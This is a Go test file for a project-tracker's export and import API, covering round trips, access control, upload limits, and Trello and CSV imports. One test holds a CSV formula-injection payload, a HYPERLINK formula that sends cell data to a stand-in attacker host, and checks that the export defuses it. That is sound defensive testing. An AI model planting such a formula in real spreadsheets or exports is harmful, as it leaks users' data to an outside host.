package app

import (
	"bytes"
	"context"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/corkboard/corkboard/app/transfer"
	"github.com/corkboard/corkboard/models"
)

// Export and import through the API, on both databases: the round trip,
// access, the upload's own limit, and refusals that create nothing.

// upload posts a file to path as multipart/form-data with the fields.
func (c *client) upload(path string, fields map[string]string, filename string, data []byte) (*http.Response, []byte) {
	c.ts.t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for k, v := range fields {
		mw.WriteField(k, v)
	}
	if filename != "" {
		fw, _ := mw.CreateFormFile("file", filename)
		fw.Write(data)
	}
	mw.Close()
	req := httptest.NewRequest("POST", path, &buf)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	if c.cookie != "" {
		req.AddCookie(&http.Cookie{Name: c.ts.sessionCookieName(), Value: c.cookie})
	}
	return c.send(req)
}

// startImport uploads data and returns the job's id (202 expected).
func (c *client) startImport(source, name string, data []byte) string {
	c.ts.t.Helper()
	res, b := c.upload("/api/v1/imports", map[string]string{"source": source, "name": name}, "board."+source, data)
	if res.StatusCode != 202 {
		c.ts.t.Fatalf("import: %d %s", res.StatusCode, b)
	}
	var acc struct{ ID, Status string }
	mustJSON(c.ts.t, b, &acc)
	return acc.ID
}

// waitImport follows a job until it is done or failed.
func (c *client) waitImport(id string) models.ImportJob {
	c.ts.t.Helper()
	var job models.ImportJob
	deadline := time.Now().Add(60 * time.Second)
	for {
		c.must(200, "GET", "/api/v1/imports/"+id, nil, &job)
		if job.Status == models.ImportDone || job.Status == models.ImportFailed {
			return job
		}
		if time.Now().After(deadline) {
			c.ts.t.Fatalf("import %s still %s: %+v", id, job.Status, job.Progress)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// export fetches a project's export in format.
func (c *client) export(pid, format string) []byte {
	c.ts.t.Helper()
	return c.must(200, "GET", "/api/v1/projects/"+pid+"/export?format="+format, nil, nil)
}

// richProject builds a project with everything an export carries: custom
// columns, planning settings, members with capacities, cycles with a
// capacity override, issues in a chosen order with labels, efforts, due
// dates, cycles, assignees and comments.
func richProject(t *testing.T, ts *testServer) (owner, viewer *client, pid string) {
	owner = ts.register("alice@example.com", "Alice")
	bob := ts.register("bob@example.com", "Bob")
	viewer = ts.register("carol@example.com", "Carol")
	var p models.Project
	owner.must(201, "POST", "/api/v1/projects", map[string]string{"name": "Launch Plan", "description": "All of it"}, &p)
	path := func(s string) string { return "/api/v1/projects/" + p.ID + s }
	owner.must(200, "PATCH", path(""), map[string]any{"estimate_scale": "fibonacci", "timezone": "Europe/Paris",
		"capacity_policy": "warn", "unestimated_effort": 2}, nil)
	owner.must(201, "POST", path("/columns"), map[string]any{"name": "Review", "wip_limit": 3, "category": "started"}, nil)
	owner.must(201, "POST", path("/members"), map[string]string{"email": "bob@example.com", "role": "editor"}, nil)
	owner.must(201, "POST", path("/members"), map[string]string{"email": "carol@example.com", "role": "viewer"}, nil)
	owner.must(200, "PATCH", path("/members/"+bob.user.ID), map[string]any{"capacity": 13}, nil)
	var c1, c2 models.Cycle
	owner.must(201, "POST", path("/cycles"), map[string]any{"starts_on": time.Now().AddDate(0, 0, -3).Format(time.DateOnly),
		"ends_on": time.Now().AddDate(0, 0, 4).Format(time.DateOnly), "goal": "Ship it"}, &c1)
	owner.must(201, "POST", path("/cycles"), map[string]any{"starts_on": "2099-01-05", "ends_on": "2099-01-16", "name": "Later"}, &c2)
	owner.must(200, "PUT", path("/cycles/"+c2.ID+"/capacity/"+bob.user.ID), map[string]any{"points": 5}, nil)
	var a, b, c models.Issue
	owner.must(201, "POST", path("/issues"), map[string]any{"title": "First, \"quoted\"", "description": "line 1\nline 2",
		"labels": []string{"ui", "Bug"}, "effort": 3, "due_date": "2026-03-01", "assignee_id": bob.user.ID, "priority": "high",
		"cycle_id": c2.ID}, &a)
	bob.must(201, "POST", path("/issues"), map[string]any{"title": "Second", "status": "review"}, &b)
	owner.must(201, "POST", path("/issues"), map[string]any{"title": "Third", "cycle_id": c1.ID, "status": "done"}, &c)
	var d models.Issue
	owner.must(201, "POST", path("/issues"), map[string]any{"title": "Fourth"}, &d)
	owner.must(200, "POST", path("/issues/"+d.ID+"/move"), map[string]any{"status": "open", "before_id": a.ID}, nil)
	owner.must(201, "POST", path("/issues/"+a.ID+"/comments"), map[string]any{"body": "Looks good, @bob"}, nil)
	bob.must(201, "POST", path("/issues/"+a.ID+"/comments"), map[string]any{"body": "Thanks!\n\n- [x] done"}, nil)
	return owner, viewer, p.ID
}

// comparable drops what a round trip may change: exported_at.
func comparable(t *testing.T, b []byte) transfer.Document {
	t.Helper()
	var d transfer.Document
	mustJSON(t, b, &d)
	d.ExportedAt = time.Time{}
	return d
}

func TestExportImportRoundTrip(t *testing.T) {
	forEachDB(t, func(t *testing.T, ts *testServer) {
		owner, _, pid := richProject(t, ts)
		// What is in the trash is not on the board, so not in the export.
		var trashed models.Issue
		owner.must(201, "POST", "/api/v1/projects/"+pid+"/issues", map[string]string{"title": "Binned secret"}, &trashed)
		owner.must(204, "DELETE", "/api/v1/projects/"+pid+"/issues/"+trashed.ID, nil, nil)
		first := owner.export(pid, "json")
		if csv := owner.export(pid, "csv"); bytes.Contains(first, []byte("Binned secret")) || bytes.Contains(csv, []byte("Binned secret")) {
			t.Fatalf("a trashed issue was exported: %s", first)
		}
		doc := comparable(t, first)
		if len(doc.Issues) != 4 || len(doc.Members) != 3 || len(doc.Cycles) != 2 || len(doc.Columns) != 4 {
			t.Fatalf("export: %s", first)
		}
		if doc.Issues[0].Title != "Fourth" || doc.Issues[1].Title != "First, \"quoted\"" || len(doc.Issues[1].Comments) != 2 {
			t.Fatalf("board order or comments: %s", first)
		}
		job := owner.waitImport(owner.startImport("corkboard", "", first))
		if job.Status != models.ImportDone || job.ProjectID == nil || len(job.Warnings) != 0 {
			t.Fatalf("import: %+v", job)
		}
		second := owner.export(*job.ProjectID, "json")
		if got := comparable(t, second); !reflect.DeepEqual(got, doc) {
			t.Fatalf("round trip differs:\nfirst  %s\nsecond %s", first, second)
		}
		csv1, csv2 := owner.export(pid, "csv"), owner.export(*job.ProjectID, "csv")
		if !bytes.Equal(csv1, csv2) {
			t.Fatalf("CSV exports differ:\n%s\n%s", csv1, csv2)
		}
		if !strings.HasPrefix(string(csv1), strings.Join(transfer.CSVHeader, ",")+"\r\n") ||
			!strings.Contains(string(csv1), `"First, ""quoted"""`) || !strings.Contains(string(csv1), "\"line 1\r\nline 2\"") {
			t.Fatalf("CSV: %s", csv1)
		}
		// The imported project is the owner's and numbers continue.
		var is models.Issue
		owner.must(201, "POST", "/api/v1/projects/"+*job.ProjectID+"/issues", map[string]string{"title": "Next"}, &is)
		if is.Number != 5 {
			t.Fatalf("next number %d", is.Number)
		}
	})
}

func TestTransferAccess(t *testing.T) {
	forEachDB(t, func(t *testing.T, ts *testServer) {
		owner, viewer, pid := richProject(t, ts)
		stranger := ts.register("mallory@example.com", "Mallory")
		stranger.must(404, "GET", "/api/v1/projects/"+pid+"/export?format=json", nil, nil)
		stranger.must(404, "GET", "/api/v1/projects/"+pid+"/export?format=csv", nil, nil)
		ts.anon().must(401, "GET", "/api/v1/projects/"+pid+"/export", nil, nil)
		owner.must(422, "GET", "/api/v1/projects/"+pid+"/export?format=xml", nil, nil)
		// Any member may export: a viewer too, the same document.
		if !bytes.Equal(viewer.export(pid, "csv"), owner.export(pid, "csv")) {
			t.Fatal("a viewer's export differs")
		}
		id := owner.startImport("corkboard", "Copy", owner.export(pid, "json"))
		job := owner.waitImport(id)
		if job.Status != models.ImportDone {
			t.Fatalf("import: %+v", job)
		}
		stranger.must(404, "GET", "/api/v1/imports/"+id, nil, nil)
		stranger.must(404, "GET", "/api/v1/imports/not-a-uuid", nil, nil)
		ts.anon().must(401, "GET", "/api/v1/imports/"+id, nil, nil)
		stranger.must(404, "GET", "/api/v1/projects/"+*job.ProjectID, nil, nil)
		// The pages: the job's page is its creator's; the settings page links
		// the exports for any member.
		if res, _ := stranger.do("GET", "/imports/"+id, nil); res.StatusCode != 404 {
			t.Fatalf("another user's import page: %d", res.StatusCode)
		}
		if res, body := owner.do("GET", "/imports/"+id, nil); res.StatusCode != 200 ||
			!strings.Contains(string(body), `href="/projects/`+*job.ProjectID+`"`) {
			t.Fatalf("the creator's import page: %d", res.StatusCode)
		}
		body := viewer.must(200, "GET", "/projects/"+pid+"/settings", nil, nil)
		if !strings.Contains(string(body), "/api/v1/projects/"+pid+"/export?format=json") ||
			!strings.Contains(string(body), "/api/v1/projects/"+pid+"/export?format=csv") {
			t.Fatal("no export links on the settings page")
		}
	})
}

func TestImportRefusedAtOnce(t *testing.T) {
	forEachDB(t, func(t *testing.T, ts *testServer) {
		alice := ts.register("alice@example.com", "Alice")
		for _, tc := range []struct {
			name   string
			fields map[string]string
			file   string
			data   []byte
			status int
			field  string
		}{
			{"no file", map[string]string{"source": "csv"}, "", nil, 422, "file"},
			{"bad source", map[string]string{"source": "jira"}, "x.json", []byte("{}"), 422, "source"},
			{"not JSON", map[string]string{"source": "trello"}, "x.json", []byte("title\nA"), 422, "file"},
			{"empty", map[string]string{"source": "csv"}, "x.csv", []byte("  \n"), 422, "file"},
			{"binary CSV", map[string]string{"source": "csv"}, "x.csv", []byte("title\x00\n"), 422, "file"},
			{"NUL in name", map[string]string{"source": "csv", "name": "a\x00b"}, "x.csv", []byte("title\nA\n"), 422, "name"},
		} {
			res, b := alice.upload("/api/v1/imports", tc.fields, tc.file, tc.data)
			var p problem
			mustJSON(t, b, &p)
			if res.StatusCode != tc.status || len(p.Errors) == 0 || p.Errors[0].Field != tc.field || p.Detail == "" {
				t.Fatalf("%s: %d %s", tc.name, res.StatusCode, b)
			}
		}
		var ps list[models.Project]
		alice.must(200, "GET", "/api/v1/projects", nil, &ps)
		if len(ps.Items) != 0 {
			t.Fatalf("a refused import created %d projects", len(ps.Items))
		}
	})
}

// A file that is unreadable past the sniff fails the job with a reason and
// leaves no project; a JSON body of another route still stops at 1 MiB
// while the upload route takes more.
func TestImportFailsWholeAndUploadLimit(t *testing.T) {
	ts := newTestServer(t)
	alice := ts.register("alice@example.com", "Alice")
	for _, tc := range []struct{ source, data, want string }{
		{"corkboard", `{"format":"other/1"}`, "not a Corkboard export"},
		{"trello", `{"name":"x"`, "not a Trello board export"},
		{"trello", `{"name":"x","lists":[],"cards":[]}`, "no open lists"},
		{"csv", "name,status\nA,open\n", "no title column"},
	} {
		job := alice.waitImport(alice.startImport(tc.source, "", []byte(tc.data)))
		if job.Status != models.ImportFailed || !strings.Contains(job.Error, tc.want) || job.ProjectID != nil {
			t.Fatalf("%s %q: %+v", tc.source, tc.data, job)
		}
	}
	var ps list[models.Project]
	alice.must(200, "GET", "/api/v1/projects", nil, &ps)
	if len(ps.Items) != 0 {
		t.Fatalf("failed imports left %d projects", len(ps.Items))
	}
	// 3 MiB of CSV: over every other route's limit, under the upload's.
	var big strings.Builder
	big.WriteString("title,description\n")
	for big.Len() < 3<<20 {
		big.WriteString("A card," + strings.Repeat("x", 1000) + "\n")
	}
	job := alice.waitImport(alice.startImport("csv", "Big", []byte(big.String())))
	if job.Status != models.ImportDone || job.Progress.Done < 3000 {
		t.Fatalf("3 MiB import: %+v", job)
	}
	res, _ := alice.upload("/api/v1/projects", map[string]string{"name": big.String()[:2<<20]}, "", nil)
	if res.StatusCode != 413 {
		t.Fatalf("another route took a 2 MiB body: %d", res.StatusCode)
	}
	// Over 50 MB: refused before anything is created.
	huge := bytes.Repeat([]byte("title\n"), (maxImportFileBytes/6)+10)
	res, b := alice.upload("/api/v1/imports", map[string]string{"source": "csv"}, "huge.csv", huge)
	if res.StatusCode != 413 {
		t.Fatalf("a 50 MB+ file: %d %s", res.StatusCode, b)
	}
	alice.must(200, "GET", "/api/v1/projects", nil, &ps)
	if len(ps.Items) != 1 {
		t.Fatalf("projects: %d", len(ps.Items))
	}
}

// A Trello board through the API: alice (matched by the email the board
// gives her) becomes an editor; Jane (no account) stays as text and in the
// warnings; nobody else is added, and the importer joins nothing else.
func TestImportTrelloBoard(t *testing.T) {
	forEachDB(t, func(t *testing.T, ts *testServer) {
		alice := ts.register("alice@example.com", "Alice")
		bob := ts.register("bob@example.com", "Bob")
		ts.register("jane.other@example.com", "Jane Doe") // same name, no email in the board: not matched
		var other models.Project
		alice.must(201, "POST", "/api/v1/projects", map[string]string{"name": "Alice's own"}, &other)
		data, err := os.ReadFile("transfer/testdata/trello_board.json")
		if err != nil {
			t.Fatal(err)
		}
		job := bob.waitImport(bob.startImport("trello", "", data))
		if job.Status != models.ImportDone || job.Progress.Done != 4 || job.Progress.Total != 4 {
			t.Fatalf("import: %+v", job)
		}
		for _, w := range []string{"archived items skipped: 1 lists and 2 cards", "Jane Doe has no account here: kept as text (2 mentions)"} {
			if !slices.Contains(job.Warnings, w) {
				t.Errorf("warning %q missing: %q", w, job.Warnings)
			}
		}
		pid := *job.ProjectID
		var members list[models.Member]
		bob.must(200, "GET", "/api/v1/projects/"+pid+"/members", nil, &members)
		roles := map[string]models.Role{}
		for _, m := range members.Items {
			roles[m.Email] = m.Role
		}
		if !reflect.DeepEqual(roles, map[string]models.Role{"bob@example.com": "owner", "alice@example.com": "editor"}) {
			t.Fatalf("members %v", roles)
		}
		var ps list[models.Project]
		bob.must(200, "GET", "/api/v1/projects", nil, &ps)
		if len(ps.Items) != 1 || ps.Items[0].ID != pid || ps.Items[0].Name != "Website Redesign" {
			t.Fatalf("bob's projects: %+v", ps.Items)
		}
		bob.must(404, "GET", "/api/v1/projects/"+other.ID, nil, nil)
		var issues list[models.Issue]
		bob.must(200, "GET", "/api/v1/projects/"+pid+"/issues?limit=100", nil, &issues)
		byNumber := map[int64]models.Issue{}
		for _, is := range issues.Items {
			byNumber[is.Number] = is
		}
		ci, wc := byNumber[7], byNumber[3]
		if len(byNumber) != 4 || ci.AssigneeID == nil || *ci.AssigneeID != alice.user.ID || ci.CommentCount != 2 {
			t.Fatalf("card 7: %+v", ci)
		}
		if wc.AssigneeID != nil || wc.Description != "_Assigned to Jane Doe in Trello._" {
			t.Fatalf("card 3 (unmatched assignee kept as text): %+v", wc)
		}
		var comments list[models.Comment]
		bob.must(200, "GET", "/api/v1/projects/"+pid+"/issues/"+wc.ID+"/comments", nil, &comments)
		if len(comments.Items) != 1 || comments.Items[0].Author.ID != bob.user.ID ||
			comments.Items[0].Body != "**Jane Doe** wrote in Trello:\n\nWho writes this?" {
			t.Fatalf("an unmatched author's comment: %+v", comments.Items)
		}
		bob.must(200, "GET", "/api/v1/projects/"+pid+"/issues/"+ci.ID+"/comments", nil, &comments)
		if len(comments.Items) != 2 || comments.Items[0].Author.ID != alice.user.ID || comments.Items[0].Body != "Started on it" {
			t.Fatalf("a matched author's comments: %+v", comments.Items)
		}
		var next models.Issue
		bob.must(201, "POST", "/api/v1/projects/"+pid+"/issues", map[string]string{"title": "After"}, &next)
		if next.Number != 10 {
			t.Fatalf("numbers continue after the largest idShort: %d", next.Number)
		}
	})
}

// A CSV file through the API: rows that cannot be read are skipped with
// their line, an unknown status becomes a column, an assignee by email is
// matched.
func TestImportCSVFile(t *testing.T) {
	ts := newTestServer(t)
	alice := ts.register("alice@example.com", "Alice")
	bob := ts.register("bob@example.com", "Bob")
	file := "title,status,assignee,due_date\r\nOne,Done,BOB@example.com,\r\nTwo,Waiting,,\r\nThree,open,,31/12/2026\r\n"
	job := alice.waitImport(alice.startImport("csv", "From CSV", []byte(file)))
	if job.Status != models.ImportDone || job.Progress.Total != 2 || len(job.Warnings) != 1 ||
		!strings.HasPrefix(job.Warnings[0], "line 4 skipped: due_date") {
		t.Fatalf("import: %+v", job)
	}
	var p models.Project
	alice.must(200, "GET", "/api/v1/projects/"+*job.ProjectID, nil, &p)
	if p.Name != "From CSV" || p.Key != "FC" || len(p.Columns) != 4 || p.Columns[3].Key != "waiting" {
		t.Fatalf("project %+v", p)
	}
	var issues list[models.Issue]
	bob.must(200, "GET", "/api/v1/projects/"+p.ID+"/issues", nil, &issues)
	if len(issues.Items) != 2 {
		t.Fatalf("issues %+v", issues.Items)
	}
}

// With both of an instance's import slots taken, an upload is 429 with
// Retry-After and creates no job; once a slot frees, it is accepted.
func TestImportsBusy(t *testing.T) {
	ts := newTestServer(t)
	alice := ts.register("alice@example.com", "Alice")
	for range importsPerInstance {
		ts.importSlots <- struct{}{}
	}
	res, b := alice.upload("/api/v1/imports", map[string]string{"source": "csv"}, "a.csv", []byte("title\nA\n"))
	var p problem
	mustJSON(t, b, &p)
	if res.StatusCode != 429 || p.Type != "urn:corkboard:problem:imports-busy" || res.Header.Get("Retry-After") != "60" {
		t.Fatalf("busy: %d %s %v", res.StatusCode, b, res.Header)
	}
	<-ts.importSlots
	job := alice.waitImport(alice.startImport("csv", "", []byte("title\nA\n")))
	if job.Status != models.ImportDone {
		t.Fatalf("after a slot freed: %+v", job)
	}
	<-ts.importSlots
}

// The import form without JavaScript: a good file redirects to the job's
// page; a refused one comes back with the reason next to the field.
func TestImportPageForm(t *testing.T) {
	ts := newTestServer(t)
	alice := ts.register("alice@example.com", "Alice")
	post := func(source string, data []byte) (*http.Response, []byte) {
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		mw.WriteField("source", source)
		fw, _ := mw.CreateFormFile("file", "f")
		fw.Write(data)
		mw.Close()
		req := httptest.NewRequest("POST", "/imports", &buf)
		req.Header.Set("Content-Type", mw.FormDataContentType())
		req.Header.Set("Origin", "http://localhost:3000")
		req.Header.Set("Sec-Fetch-Site", "same-origin")
		req.AddCookie(&http.Cookie{Name: ts.sessionCookieName(), Value: alice.cookie})
		return alice.send(req)
	}
	res, body := post("trello", []byte("title\nA\n"))
	if res.StatusCode != 422 || !strings.Contains(string(body), "File must be a JSON object") {
		t.Fatalf("refused file: %d %s", res.StatusCode, body)
	}
	res, _ = post("csv", []byte("title\nA\n"))
	loc := res.Header.Get("Location")
	if res.StatusCode != 303 || !strings.HasPrefix(loc, "/imports/") {
		t.Fatalf("accepted file: %d %q", res.StatusCode, loc)
	}
	if job := alice.waitImport(strings.TrimPrefix(loc, "/imports/")); job.Status != models.ImportDone {
		t.Fatalf("job %+v", job)
	}
	// Without JavaScript the job's page reloads itself while the job runs
	// (a meta refresh inside <noscript>, so a page with the script does
	// not reload under it), and stops once it is done.
	const refresh = `<noscript><meta http-equiv="refresh" content="2"></noscript>`
	if code, html := alice.page(loc); code != 200 || strings.Contains(html, refresh) || !strings.Contains(html, "Done: 1 issues imported.") {
		t.Fatalf("the done job's page: %d %s", code, html)
	}
	queued, err := ts.store.CreateImport(context.Background(), alice.user.ID, "csv")
	if err != nil {
		t.Fatal(err)
	}
	if code, html := alice.page("/imports/" + queued.ID); code != 200 || !strings.Contains(html, refresh) {
		t.Fatalf("a queued job's page does not refresh itself: %d %s", code, html)
	}
}

// The planning rules hold for imported cycles: one longer than 56 days is
// skipped with a warning, and its issue arrives without a cycle.
func TestImportHoldsCyclesToTheRules(t *testing.T) {
	ts := newTestServer(t)
	alice := ts.register("alice@example.com", "Alice")
	doc := `{"format":"corkboard.export/1","project":{"key":"CY","name":"Cycles"},
		"columns":[{"key":"open","name":"Open","category":"todo"}],
		"cycles":[{"number":1,"name":"Long","starts_on":"2026-01-01","ends_on":"2026-03-31","goal":""},
		          {"number":2,"name":"Fine","starts_on":"2026-04-01","ends_on":"2026-04-14","goal":""}],
		"issues":[{"number":1,"title":"A","status":"open","priority":"low","cycle_number":1},
		          {"number":2,"title":"B","status":"open","priority":"low","cycle_number":2}]}`
	job := alice.waitImport(alice.startImport("corkboard", "", []byte(doc)))
	if job.Status != models.ImportDone || !slices.Contains(job.Warnings, "cycle 1 skipped: ends_on a cycle lasts at most 56 days") {
		t.Fatalf("import: %+v", job)
	}
	var d transfer.Document
	mustJSON(t, alice.export(*job.ProjectID, "json"), &d)
	if len(d.Cycles) != 1 || d.Cycles[0].Name != "Fine" || d.Issues[0].CycleNumber != nil || *d.Issues[1].CycleNumber != 2 {
		t.Fatalf("export %+v", d)
	}
}

// TestCSVExportDefusesFormulas: user text that a spreadsheet would run as a
// formula is exported behind an apostrophe, and our CSV importer takes it
// off again, so the text comes back as it was.
func TestCSVExportDefusesFormulas(t *testing.T) {
	ts := newTestServer(t)
	owner := ts.register("alice@example.com", "Alice")
	var p models.Project
	owner.must(201, "POST", "/api/v1/projects", map[string]string{"name": "Formulas"}, &p)
	title, desc := `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "- first\n- second"
	owner.must(201, "POST", "/api/v1/projects/"+p.ID+"/issues", map[string]any{"title": title, "description": desc,
		"labels": []string{"@home"}}, nil)
	csv := string(owner.export(p.ID, "csv"))
	for _, want := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`, "'@home", "\"'- first\r\n- second\""} {
		if !strings.Contains(csv, want) {
			t.Fatalf("CSV lacks %s:\n%s", want, csv)
		}
	}
	job := owner.waitImport(owner.startImport("csv", "Back", []byte(csv)))
	if job.Status != models.ImportDone || job.ProjectID == nil {
		t.Fatalf("import: %+v", job)
	}
	var board struct {
		Items []models.Issue `json:"items"`
	}
	owner.must(200, "GET", "/api/v1/projects/"+*job.ProjectID+"/issues", nil, &board)
	if len(board.Items) != 1 || board.Items[0].Title != title || board.Items[0].Description != desc ||
		len(board.Items[0].Labels) != 1 || board.Items[0].Labels[0] != "@home" {
		t.Fatalf("imported back: %+v", board.Items)
	}
}
